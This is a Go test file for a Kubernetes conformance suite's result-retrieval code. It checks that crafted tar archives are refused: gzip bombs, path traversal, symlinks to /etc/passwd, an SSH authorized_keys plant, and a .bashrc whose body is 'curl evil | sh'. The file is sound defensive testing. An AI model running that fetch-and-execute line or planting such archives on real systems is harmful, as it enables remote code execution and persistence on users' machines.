package incluster_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"

	"github.com/gpulab/gpulab/conformance/incluster"
	"github.com/gpulab/gpulab/testbeds/local"
)

// entry is one tar entry of a crafted archive.
type entry struct {
	name string
	size int64 // of zeros, when content is empty
	typ  byte
	body string
}

func craft(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	tw := tar.NewWriter(gz)
	for _, e := range entries {
		typ, size := e.typ, e.size
		if typ == 0 {
			typ = tar.TypeReg
		}
		if e.body != "" {
			size = int64(len(e.body))
		}
		h := &tar.Header{Name: e.name, Mode: 0o644, Size: size, Typeflag: typ}
		if typ == tar.TypeSymlink {
			h.Size, h.Linkname = 0, "/etc/passwd"
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			if e.body != "" {
				_, _ = tw.Write([]byte(e.body))
			} else {
				zeros := make([]byte, 1<<20)
				for left := size; left > 0; left -= int64(len(zeros)) {
					if _, err := tw.Write(zeros[:min(left, int64(len(zeros)))]); err != nil {
						t.Fatal(err)
					}
				}
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// retrieveCrafted stores archive as run r1's results, as anyone who can
// write its ConfigMap could, and retrieves it into dir.
func retrieveCrafted(t *testing.T, archive []byte, dir string, force bool) (incluster.Retrieved, error) {
	t.Helper()
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "runner", Name: incluster.ConfigMapName("r1")},
		BinaryData: map[string][]byte{incluster.ResultsKey: archive}}
	c := fake.NewClientBuilder().WithScheme(local.Scheme).WithObjects(cm).Build()
	return incluster.Retrieve(context.Background(), c, "runner", "r1", dir, incluster.RetrieveOptions{Force: force})
}

// Retrieve checks the whole archive before it writes anything: a bomb,
// too many files, names the suite does not write (a dotfile in the home
// folder it may be pointed at), links and duplicates are refused.
func TestRetrieveRefusesCraftedArchives(t *testing.T) {
	many := make([]entry, incluster.MaxRetrievedEntries+1)
	for i := range many {
		many[i] = entry{name: fmt.Sprintf("logs/%d.log", i), body: "x"}
	}
	results := entry{name: "results.json", body: "{}"}
	for _, tc := range []struct {
		name    string
		entries []entry
		want    string
	}{
		{"gzip bomb", []entry{results, {name: "logs/operator.log", size: 200 << 20}}, "expands past 64 MiB"},
		{"bomb in many files", []entry{{name: "logs/a.log", size: 40 << 20}, {name: "logs/b.log", size: 40 << 20}}, "expands past 64 MiB"},
		{"too many files", many, "more than 1000 files"},
		{".bashrc", []entry{results, {name: ".bashrc", body: "curl evil | sh"}}, `".bashrc", which the suite does not write`},
		{".ssh/authorized_keys", []entry{{name: ".ssh/authorized_keys", body: "ssh-ed25519 AAAA"}}, `".ssh/authorized_keys", which the suite does not write`},
		{"escape through logs", []entry{{name: "logs/../.bashrc", body: "x"}}, `which the suite does not write`},
		{"absolute", []entry{{name: "/etc/passwd", body: "x"}}, "not a file inside"},
		{"parent", []entry{{name: "../results.json", body: "x"}}, "not a file inside"},
		{"symlink", []entry{{name: "logs/link", typ: tar.TypeSymlink}}, "not a file inside"},
		{"duplicate", []entry{results, results}, "twice"},
		{"unknown top-level file", []entry{{name: "notes.txt", body: "x"}}, "which the suite does not write"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			archive := craft(t, tc.entries...)
			if len(archive) > 900<<10 {
				t.Fatalf("the crafted archive is %d KiB, more than a ConfigMap holds", len(archive)>>10)
			}
			dir := t.TempDir()
			_, err := retrieveCrafted(t, archive, dir, true)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Retrieve: %v, want an error with %q", err, tc.want)
			}
			if left, _ := os.ReadDir(dir); len(left) > 0 {
				t.Errorf("a refused archive wrote %v", left)
			}
		})
	}
}

// What the suite writes comes back, under the folder; a file already
// there is refused (nothing written) unless Force.
func TestRetrieveOverwritesOnlyWithForce(t *testing.T) {
	archive := craft(t, entry{name: "results.json", body: `{"verdict":"PASSED"}`}, entry{name: "junit.xml", body: "<x/>"},
		entry{name: "report.md", body: "#"}, entry{name: "report.html", body: "<html/>"}, entry{name: "PRODUCT.yaml", body: "a: b"},
		entry{name: "logs/operator-0.log", body: "log"}, entry{name: "perfdata/PodStartupLatency.json", body: "{}"})
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "results.json"), []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := retrieveCrafted(t, archive, dir, false)
	if err == nil || !strings.Contains(err.Error(), "refusing to overwrite results.json") || !strings.Contains(err.Error(), "--force") {
		t.Fatalf("Retrieve over an existing results.json: %v, want a refusal naming --force", err)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "results.json")); string(data) != "mine" {
		t.Errorf("results.json became %q", data)
	}
	if _, err := os.Stat(filepath.Join(dir, "junit.xml")); err == nil {
		t.Error("a refused retrieve wrote junit.xml")
	}
	got, err := retrieveCrafted(t, archive, dir, true)
	if err != nil || len(got.Files) != 7 {
		t.Fatalf("Retrieve --force: %+v, %v; want 7 files", got, err)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "results.json")); string(data) != `{"verdict":"PASSED"}` {
		t.Errorf("results.json is %q after --force", data)
	}
	// A link planted in the folder does not lead a file out of it.
	out := t.TempDir()
	planted := t.TempDir()
	if err := os.Symlink(out, filepath.Join(planted, "logs")); err != nil {
		t.Fatal(err)
	}
	if _, err := retrieveCrafted(t, archive, planted, true); err == nil {
		t.Error("Retrieve followed a link in the folder")
	}
	if left, _ := os.ReadDir(out); len(left) > 0 {
		t.Errorf("a file escaped through a link: %v", left)
	}
}

// An index may name only the run's own parts: not another ConfigMap.
func TestRetrieveIndexNamesOnlyTheRunsParts(t *testing.T) {
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "runner", Name: incluster.ConfigMapName("r1")},
		Data: map[string]string{incluster.IndexKey: `{"parts":["gpulab-conformance-results-r1","someone-elses"],"size":10,"sha256":"x"}`}}
	c := fake.NewClientBuilder().WithScheme(local.Scheme).WithObjects(cm).Build()
	_, err := incluster.Retrieve(context.Background(), c, "runner", "r1", t.TempDir(), incluster.RetrieveOptions{})
	if err == nil || !strings.Contains(err.Error(), "someone-elses") {
		t.Errorf("Retrieve: %v, want the foreign part refused", err)
	}
}
